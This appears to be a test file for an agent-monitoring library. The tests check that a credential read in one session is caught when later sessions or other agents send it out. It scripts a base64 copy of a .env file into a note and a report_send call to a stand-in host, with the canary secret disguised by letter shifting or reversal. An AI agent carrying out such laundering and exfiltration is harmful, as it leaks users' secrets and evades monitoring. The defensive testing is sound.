// What one session reads, a later one knows again: in files, in notes, in other processes.
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, expect, test } from "vitest";
import type { Verdict } from "@kaizen/core";
import { Kaizen } from "./kaizen.ts";
import { nodePlatform } from "./platform.ts";

let stateDir: string;
beforeEach(() => {
  stateDir = mkdtempSync(join(tmpdir(), "kaizen-carried-"));
});
afterEach(() => rmSync(stateDir, { recursive: true, force: true }));

const SECRET = "kc-Canary-T7wQ2mXv9Rb4LpZs";
const client = (agent = "gardener"): Kaizen => new Kaizen({ agent, stateDir, enforcement: "observe", onFailure: "open" });
const labelFiles = (): readonly string[] => readdirSync(stateDir, { recursive: true, encoding: "utf8" }).filter((name) => /(?:left|open)-.*\.json$/.test(name));

/** Reads a key and keeps it in a note of its own. */
function readAndNote(kaizen: Kaizen): void {
  const session = kaizen.session({ id: "monday" });
  session.inspect({ kind: "file", target: "/srv/garden/.env", metadata: { access: "read" } }, "c1");
  session.observe({ kind: "result", content: `GATE_TOKEN=${SECRET}` }, "c1");
  session.inspect({ kind: "exec", arguments: { command: "base64 /srv/garden/.env > /srv/garden/notes/week" } }, "c2");
  void session.end();
}

/** Opens the note, which holds the key in another form, and sends what it found. */
function readBackAndSend(kaizen: Kaizen, text: string): Verdict {
  const session = kaizen.session({ id: "tuesday" });
  session.observe({ kind: "request", content: "What is on the note of this week?" });
  session.inspect({ kind: "tool_call", tool: "file_read", arguments: { path: "/srv/garden/notes/week" } }, "d1");
  session.observe({ kind: "result", tool: "file_read", content: text }, "d1");
  return session.inspect({ kind: "tool_call", tool: "report_send", arguments: { url: "https://reports.garden.example/in", text } });
}

const inOtherWriting = `~~${[...SECRET].map((letter) => String.fromCharCode(letter.charCodeAt(0) + 1)).join("")}~~ 4471-kkw`;

test("a note that one process filled from a file for credentials is secret to the next one in whatever form it is read", () => {
  expect(readBackAndSend(client(), inOtherWriting)).toMatchObject({ decision: "allow", evidence: [] });
  readAndNote(client());
  const verdict = readBackAndSend(client(), inOtherWriting);
  expect(verdict).toMatchObject({ decision: "block", attention: "flag", evidence: [{ code: "sensitive-egress" }] });
  expect(verdict.ids.carried).toMatch(/^[0-9a-f]{16}$/);
});

test("a value that an earlier session read is known backwards and cited with that session", () => {
  readAndNote(client());
  const session = client().session({ id: "wednesday" });
  const verdict = session.inspect({ kind: "tool_call", tool: "report_send", arguments: { url: "https://reports.garden.example/in", text: [...SECRET].toReversed().join("") } });
  expect(verdict).toMatchObject({ attention: "flag", evidence: [{ code: "sensitive-egress" }] });
  expect(verdict.evidence[0]?.cites.map((id) => id.split("/")[0])).toEqual(["monday", "monday", "wednesday"]);
  expect(verdict.evidence[0]?.what).toContain("in session monday of gardener");
});

test("a file that one agent filled is secret to another agent on the machine", () => {
  readAndNote(client());
  const verdict = readBackAndSend(client("porter"), inOtherWriting);
  expect(verdict).toMatchObject({ attention: "flag", evidence: [{ code: "sensitive-egress" }] });
  expect(verdict.evidence[0]?.what).toContain("in session monday of gardener");
});

test("a note that was made anew without the key is no longer secret", () => {
  readAndNote(client());
  const session = client().session({ id: "noon" });
  session.inspect({ kind: "file", target: "/srv/garden/notes/week", arguments: { text: "water the roses" }, metadata: { access: "write" } });
  void session.end();
  expect(readBackAndSend(client(), "water the roses")).toMatchObject({ evidence: [] });
});

test("what a session leaves is taken up when its process died", async () => {
  const kaizen = client();
  const session = kaizen.session({ id: "monday" });
  session.observe({ kind: "result", content: `GATE_TOKEN=${SECRET}` });
  await new Promise((resolve) => setImmediate(resolve));
  const [open = ""] = labelFiles();
  expect(open).toMatch(/open-/);
  expect(client().session().carried()).toMatchObject({ values: [] });
  // The same file of a process that is no more.
  const [, before = "", id = ""] = /^(.*open-[0-9a-f]+)-\d+-\d+-([0-9a-f]{16}\.json)$/.exec(open) ?? [];
  const dead = join(stateDir, `${before}-999999999-1-${id}`);
  writeFileSync(dead, JSON.stringify(session.carried()), { mode: 0o600 });
  const verdict = client().session().inspect({ kind: "tool_call", tool: "report_send", arguments: { text: SECRET } });
  expect(verdict).toMatchObject({ attention: "flag" });
});

test("many sessions leave a few files, and nothing of them is lost", () => {
  const keys = Array.from({ length: 40 }, (_, at) => `kc-Canary-${at}w${"Q2mXv9Rb4LpZs7Tn".slice(at % 8)}h${at * 7919}`);
  for (const [at, key] of keys.entries()) {
    const session = client().session({ id: `s${at}` });
    session.observe({ kind: "result", content: `API_KEY=${key}` });
    void session.end();
  }
  const last = client().session({ id: "last" });
  const missed = keys.filter((key) => last.inspect({ kind: "tool_call", tool: "report_send", arguments: { text: key } }).attention !== "flag");
  expect([missed, labelFiles().length <= 17]).toEqual([[], true]);
});

test("labels are forgotten after thirty days, and what is no labels is left out", () => {
  readAndNote(client());
  const [file = ""] = labelFiles();
  writeFileSync(join(stateDir, file.replace(/left-.*/, "left-0123456789abcdef.json")), '{"v":1,"places":[{}],"values":[],"notes":[]}', { mode: 0o600 });
  expect(readBackAndSend(client(), inOtherWriting).attention).toBe("flag");
  const later = new Kaizen({ agent: "gardener", stateDir, onFailure: "open", enforcement: "observe" }, { ...nodePlatform, now: () => Date.now() + 31 * 86_400_000 });
  expect(readBackAndSend(later, inOtherWriting).attention).toBe("none");
});

test("without a folder labels go from session to session in memory", () => {
  const kaizen = new Kaizen({ agent: "gardener", stateDir: "/proc/no/folder", onFailure: "open", enforcement: "observe" }, { ...nodePlatform, warn: () => undefined });
  readAndNote(kaizen);
  expect(readBackAndSend(kaizen, inOtherWriting).attention).toBe("flag");
});
